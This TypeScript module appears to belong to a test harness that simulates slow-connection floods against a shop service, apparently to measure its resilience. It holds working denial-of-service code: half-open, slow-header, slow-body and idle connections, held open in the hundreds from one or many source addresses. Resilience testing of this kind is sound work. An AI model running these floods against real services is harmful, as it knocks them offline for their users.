import { connect, type Socket } from 'node:net';
import { pause } from '../answers.ts';
import { attackerAddress } from './addresses.ts';
import type { AttackRecord } from './attack-figures.ts';

/** A way of keeping a connection open without asking for anything that ends. */
interface Flood {
  /** Sent when the connection opens. */
  opening: string;
  /** Sent every second. */
  drip: string;
}

const HEAD = 'Host: localhost\r\n';

const FLOODS: Record<string, Flood> = {
  'half-open': { opening: '', drip: '' },
  'slow headers': { opening: `GET / HTTP/1.1\r\n${HEAD}`, drip: 'x-a: b\r\n' },
  'slow body': {
    opening: `POST /rest/v1/rpc/checkout HTTP/1.1\r\n${HEAD}content-length: 100000\r\n\r\n`,
    drip: '[',
  },
  idle: { opening: `GET /config.json HTTP/1.1\r\n${HEAD}\r\n`, drip: '' },
};

/** Connections of each kind that are kept open, from one address and from many. */
const PER_KIND = { flooder: 400, flood: 300 } as const;

/** New connections of each kind in a step: those that the shop closed are opened again. */
const MAX_NEW = 10;
const STEP_MS = 200;
const STEPS_PER_DRIP = 5;

/** Keeps connections of all kinds open until the time is over. */
export async function floodConnections(
  { hostname, port }: URL,
  until: number,
  record: AttackRecord,
): Promise<void> {
  const open = (from: string | undefined, { opening }: Flood): Socket => {
    const socket = connect({
      host: hostname,
      port: Number(port),
      ...(from && { localAddress: from }),
    });
    // Sent once the connection is there.
    socket.write(opening);
    return socket;
  };
  const keepOpen = async (kind: string, from: keyof typeof PER_KIND): Promise<void> => {
    const flood = FLOODS[kind] ?? { opening: '', drip: '' };
    const counts = record.connectionsOf(`${kind}, ${from === 'flooder' ? 'one address' : 'many'}`);
    const sockets = new Set<Socket>();
    for (let step = 0; performance.now() < until; step += 1) {
      const missing = Math.min(PER_KIND[from] - sockets.size, MAX_NEW);
      for (let index = 0; index < missing; index += 1) {
        const socket = open(attackerAddress(from, counts.opened), flood);
        sockets.add(socket);
        counts.opened += 1;
        socket.on('error', () => undefined);
        socket.resume().once('close', () => {
          sockets.delete(socket);
          counts.closed += 1;
        });
      }
      counts.most = Math.max(counts.most, sockets.size);
      await pause(STEP_MS);
      const drips = flood.drip !== '' && step % STEPS_PER_DRIP === 0;
      for (const socket of sockets) if (drips) socket.write(flood.drip);
    }
    for (const socket of sockets) socket.removeAllListeners('close').destroy();
  };
  await Promise.all(
    Object.keys(FLOODS).flatMap((kind) => [keepOpen(kind, 'flooder'), keepOpen(kind, 'flood')]),
  );
}
